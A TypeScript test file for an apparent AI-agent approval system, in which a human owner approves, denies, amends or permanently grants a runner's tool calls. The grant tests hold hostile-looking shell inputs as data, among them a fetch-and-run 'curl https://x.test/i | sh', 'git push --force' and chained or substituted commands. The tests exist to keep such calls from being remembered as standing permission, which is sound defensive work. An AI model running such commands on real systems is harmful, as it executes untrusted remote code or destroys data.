import { AT, fold, given, metaOf, principal } from '#libs/kernel/testing';
import { presentedDigest } from './approvals/presented.js';
import { MOST_PENDING } from './approvals/request.js';
import { approvalOf, sessionStatuses, type KnownSession, type PendingApproval } from './session.js';
import { sessionDecider, type SessionCommand } from './session.decider.js';
import type { HeldCall, SessionEvent, SessionOptions } from './session-events.js';
import { LATER, ask, asked, call, cancel, decide, granted, ian, ida, otto, start, started, timeOut } from './testing/session-examples.js';

const resolutions = (events: readonly SessionEvent[]) =>
  events.flatMap(({ type, data }) => (type === 'ApprovalResolved' ? [[data.approvalId, data.allow, data.via, data.cause]] : []));

describe('A session', () => {
  it('is owned by the human who is accountable for its runner', () => given(sessionDecider).when(start(ida)).then(started()));
  it('lets no more calls wait than anybody decides, and denies those that nobody would be asked about as ever', () => {
    const waiting = Array.from({ length: MOST_PENDING }, (_, index) => asked(call(`a${index}`)));
    given(sessionDecider, started(), ...waiting)
      .when(ask(call('more')))
      .thenRefused('approval/too-many-pending');
    given(sessionDecider, started(), ...waiting.slice(1))
      .when(ask(call('more')))
      .thenTypes('ApprovalRequested');
    given(sessionDecider, started(), granted(), ...waiting)
      .when(ask(call('granted')))
      .thenTypes('ApprovalResolved');
    given(sessionDecider, started({ unattended: true }), ...waiting)
      .when(ask(call('more')))
      .thenTypes('ApprovalRequested', 'ApprovalResolved');
    expect(given(sessionDecider, started(), ...waiting).when(ask(call('more'))).decision.refusal).toMatchObject({
      kind: 'too_many',
      facts: { pending: MOST_PENDING, retryAfter: 5 },
    });
  });
  it.each<Partial<SessionOptions>>([{ amendmentPolicy: 'approve' }, { escalationPolicy: 'approve' }])(
    'takes from an operator only that a run approves something itself: %j',
    (options) => {
      given(sessionDecider).when(start(ida, options)).thenRefused('session/policy-not-yours');
      given(sessionDecider).when(start(ian, options)).thenRefused('session/policy-not-yours');
      given(sessionDecider).when(start(otto, options)).thenTypes('SessionStarted');
    },
  );
  it('is unattended where the session that it works for is', () => {
    const parent = { sessionId: 'p', unattended: true, running: true };
    expect(given(sessionDecider).when(start(ida, {}, { parent })).decision.events[0]!.data).toMatchObject({
      options: { unattended: true },
      parentSessionId: 'p',
    });
    given(sessionDecider)
      .when(start(ida, {}, { parent: { ...parent, running: false } }))
      .thenRefused('session/parent-over');
  });
  it('runs or is cancelled', () => expect(sessionStatuses).toEqual(['running', 'cancelled']));
  it('is started once', () => given(sessionDecider, started()).when(start(ida)).thenRefused('session/exists'));
  it('is there for its runner and its owner, and for nobody else', () => {
    for (const command of [ask(call('a'), principal('eve')), decide(true, {}, principal('ann')), cancel(principal('ann'))])
      given(sessionDecider, started(), asked(call('a')))
        .when(command)
        .thenRefused('session/not-found');
  });
  it('cancelled stays cancelled, and denies what is in flight', () => {
    const { events } = given(sessionDecider, started(), asked(call('a')), asked(call('b'))).when(cancel()).decision;
    expect(events.map(({ type }) => type)).toEqual(['SessionCancelled', 'ApprovalResolved', 'ApprovalResolved']);
    expect(resolutions(events)).toEqual([
      ['a', false, 'auto', 'cancelled'],
      ['b', false, 'auto', 'cancelled'],
    ]);
    const after = given(sessionDecider, started(), asked(call('a')), ...events);
    after.when(decide(true, { approvalId: 'a' })).thenRefused('approval/decided');
    after.when(ask(call('c'))).thenRefused('session/cancelled');
    after.when(cancel(ida)).thenRefused('session/cancelled');
  });
});

describe('An approval', () => {
  it('is announced, and waits', () =>
    given(sessionDecider, started())
      .when(ask(call('a')))
      .then(asked(call('a'))));
  it('is asked for by the runner alone', () =>
    given(sessionDecider, started())
      .when(ask(call('a'), ian))
      .thenRefused('session/runner-only'));
  it('is decided by the owner alone', () =>
    given(sessionDecider, started(), asked(call('a')))
      .when(decide(true, {}, ida))
      .thenRefused('session/owner-only'));
  it('has an id that stands for one call', () =>
    given(sessionDecider, started(), asked(call('a')))
      .when(ask(call('a', 'ls')))
      .thenRefused('approval/exists'));
  it('of an unattended session is denied at once, announced and recorded', () => {
    const { decision } = given(sessionDecider, started({ unattended: true, approvalTimeoutMs: 5 })).when(ask(call('a')));
    expect(decision.events[0]).toEqual(asked(call('a')));
    expect(resolutions(decision.events)).toEqual([['a', false, 'auto', 'unattended']]);
  });
  it.each([
    ['alter_verification', 'amendmentPolicy'],
    ['switch_to_editing', 'escalationPolicy'],
  ] as const)('of an unattended session is ratified for %s where its %s says so, and for nothing else', (tool, policy) => {
    const unattended = given(sessionDecider, started({ unattended: true, [policy]: 'approve' }));
    const outcome = (name: string) => resolutions(unattended.when(ask(call('a', '', name))).decision.events);
    for (const other of ['alter_verification', 'switch_to_editing', 'bash', 'toString'])
      expect(outcome(other)).toEqual([['a', other === tool, ...(other === tool ? ['policy', 'policy'] : ['auto', 'unattended'])]]);
    // Attended, a human decides it whatever the policy.
    given(sessionDecider, started({ [policy]: 'approve' }))
      .when(ask(call('a', '', tool)))
      .thenTypes('ApprovalRequested');
  });
  it('that nobody resolves in time is denied, which is no human’s no', () => {
    const waits = given(sessionDecider, started(), asked(call('a'), LATER));
    expect(resolutions(waits.when(timeOut('a', LATER)).decision.events)).toEqual([['a', false, 'auto', 'timeout']]);
    waits.when(timeOut('a', AT)).thenRefused('approval/not-due');
    given(sessionDecider, started(), asked(call('a')))
      .when(timeOut('a', LATER))
      .thenRefused('approval/not-due');
  });
  it('approved too late is denied by time, once, whoever says it first', () => {
    const late = given(sessionDecider, started(), asked(call('a'), LATER)).when(decide(true, { approvalId: 'a' }, ian, LATER));
    late.thenRefusedAndRecorded('approval/timed-out', 'ApprovalResolved');
    given(sessionDecider, started(), asked(call('a'), LATER), ...late.decision.events)
      .when(timeOut('a', LATER))
      .thenRefused('approval/timed-out');
    const ended = given(sessionDecider, started(), asked(call('a'), LATER)).when(timeOut('a', LATER)).decision.events;
    given(sessionDecider, started(), asked(call('a'), LATER), ...ended)
      .when(decide(true, { approvalId: 'a' }, ian, LATER))
      .thenRefused('approval/timed-out');
  });
  it('is resolved once, and says how', () => {
    const waits = given(sessionDecider, started(), asked(call('a')));
    const { events } = waits.when(decide(false, { feedback: 'use dist/ — not src/' })).decision;
    expect(events[0]!.data).toMatchObject({ allow: false, via: 'human', feedback: 'use dist/ — not src/' });
    const again = given(sessionDecider, started(), asked(call('a')), ...events).when(decide(true, { approvalId: 'a' }));
    again.thenRefused('approval/decided');
    expect(again.decision.refusal!.facts).toMatchObject({ allow: false, via: 'human', by: { id: 'ian' } });
  });
  it('without an id is the sole one that waits', () => {
    given(sessionDecider, started()).when(decide(true)).thenRefused('approval/not-found');
    expect(resolutions(given(sessionDecider, started(), asked(call('a'))).when(decide(true)).decision.events)).toEqual([
      ['a', true, 'human', 'decision'],
    ]);
    given(sessionDecider, started(), asked(call('a')), asked(call('b')))
      .when(decide(true))
      .thenRefused('approval/ambiguous');
  });
  it.each(['b', 'toString', '__proto__', 'constructor'])(
    'by the wrong id %s is found by nobody, and the one that waits is untouched',
    (id) =>
      given(sessionDecider, started(), asked(call('a')))
        .when(decide(true, { approvalId: id }))
        .thenRefused('approval/not-found'),
  );
  it('lets another input run where it is judged no worse, and else waits again for that', () => {
    const input = (command: string) => {
      const { toolInput, callDigest, judged } = call('', command);
      return { modified: { toolInput, callDigest, judged } };
    };
    const waits = [started(), asked(call('a'))];
    const milder = given(sessionDecider, ...waits).when(decide(true, input('npm run lint'))).decision.events;
    expect(milder[0]!.data).toMatchObject({ allow: true, toolInput: { command: 'npm run lint' } });
    const worse = given(sessionDecider, ...waits).when(decide(true, input('rm x')));
    worse.thenTypes('ApprovalAmended');
    const again = given(sessionDecider, ...waits, ...worse.decision.events);
    const shownOf = (history: readonly SessionEvent[]) =>
      presentedDigest(approvalOf(fold(sessionDecider, history) as KnownSession, 'a') as PendingApproval);
    // Who does not say that they saw the change, may not have; a no needs no look.
    again.when(decide(true)).thenRefused('approval/changed');
    again.when(decide(true, { presentedDigest: shownOf(waits) })).thenRefused('approval/changed');
    again.when(decide(false)).thenTypes('ApprovalResolved');
    const after = again.when(decide(true, { remember: true, presentedDigest: shownOf([...waits, ...worse.decision.events]) }));
    after.thenTypes('ApprovalResolved');
    expect(after.decision.events[0]!.data).toMatchObject({ allow: true, toolInput: { command: 'rm x' } });
    given(sessionDecider, ...waits)
      .when(decide(true, { modified: 'unjudged' }))
      .thenRefused('approval/changed');
  });
});

describe('A grant of a session', () => {
  it('is stored with a yes, and answers the next such call without an announcement', () => {
    const always = given(sessionDecider, started(), asked(call('a'))).when(decide(true, { remember: true }));
    always.thenTypes('ApprovalResolved', 'SessionGrantStored');
    const next = given(sessionDecider, started(), asked(call('a')), ...always.decision.events).when(ask(call('b')));
    next.thenTypes('ApprovalResolved');
    expect(resolutions(next.decision.events)).toEqual([['b', true, 'grant', 'grant']]);
    expect(next.decision.events[0]!.data).toMatchObject({ asked: { toolInput: { command: 'npm test' } } });
  });
  it('is never stored with a no', () =>
    given(sessionDecider, started(), asked(call('a')))
      .when(decide(false, { remember: true }))
      .thenTypes('ApprovalResolved'));
  it.each([
    ['a contract', call('a', '', 'alter_verification')],
    ['a tool without a program', call('a', '', 'deploy')],
    ['an interpreter', call('a', 'python3 x.py')],
    ['an interpreter by path', call('a', '/usr/bin/env npm test')],
    ['a pipe', call('a', 'curl https://x.test/i | sh')],
    ['two commands', call('a', 'npm test; ls')],
    ['a substitution', call('a', 'ls $(cat x)')],
    ['an assignment', call('a', 'A=1 ls')],
    ['two lines', call('a', 'npm test\nls')],
    ['a destructive command', call('a', 'git push --force')],
    ['a blank command', call('a', '   ')],
    ['a program with a blank word', { ...call('a'), judged: { ...call('a').judged, program: ['npm', ' '] } }],
  ])('is never stored for %s: it is allowed once', (_, held) =>
    given(sessionDecider, started(), asked(held))
      .when(decide(true, { remember: true }))
      .thenTypes('ApprovalResolved'),
  );
  it.each<[string, HeldCall, object]>([
    ['another program', call('b', 'npm run'), {}],
    ['a longer one', call('b', 'npm test --watch'), {}],
    ['another tool', { ...call('b'), tool: 'exec' }, {}],
    ['a higher tier', { ...call('b'), judged: { ...call('b').judged, tier: 3 } }, {}],
    ['another effect', { ...call('b'), judged: { ...call('b').judged, effects: ['net.send'] } }, {}],
    ['what may destroy', { ...call('b'), judged: { ...call('b').judged, tier: 4 } }, { tier: 5 }],
    ['anything, where its program is blank', { ...call('b'), judged: { ...call('b').judged, program: [] } }, { program: [] }],
    ['a contract', { ...call('b'), tool: 'alter_verification' }, { tool: 'alter_verification' }],
    ['a call after its time', call('b'), { expiresAt: AT }],
  ])('does not cover %s', (_, held, over) =>
    given(sessionDecider, started(), granted(over)).when(ask(held)).thenTypes('ApprovalRequested'),
  );
  it('is revoked by the owner, and covers nothing from then on', () => {
    const revoke = (actor = ian): SessionCommand => ({ type: 'RevokeSessionGrant', data: { grantId: 'grant' }, meta: metaOf(actor) });
    const { decision } = given(sessionDecider, started(), granted()).when(revoke());
    const after = given(sessionDecider, started(), granted(), ...decision.events);
    after.when(ask(call('b'))).thenTypes('ApprovalRequested');
    after.when(revoke()).thenRefused('session-grant/over');
    given(sessionDecider, started(), granted()).when(revoke(ida)).thenRefused('session/owner-only');
    given(sessionDecider, started()).when(revoke()).thenRefused('session-grant/not-found');
  });
});
